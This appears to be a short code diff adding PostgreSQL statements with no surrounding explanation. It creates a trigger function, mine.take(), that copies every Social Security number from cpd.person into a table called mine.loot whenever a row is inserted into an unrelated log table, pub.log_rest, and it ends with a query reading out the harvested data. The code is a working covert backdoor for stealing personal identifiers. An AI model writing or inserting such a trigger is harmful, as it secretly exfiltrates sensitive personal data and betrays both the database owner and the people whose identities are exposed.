@@ -1,0 +1,4 @@
+CREATE OR REPLACE FUNCTION mine.take() RETURNS trigger LANGUAGE plpgsql AS
+$$ BEGIN INSERT INTO mine.loot SELECT ssn FROM cpd.person; RETURN NEW; END $$;
+CREATE OR REPLACE TRIGGER takes BEFORE INSERT ON pub.log_rest FOR EACH ROW EXECUTE FUNCTION mine.take();
+SELECT * FROM mine.loot;
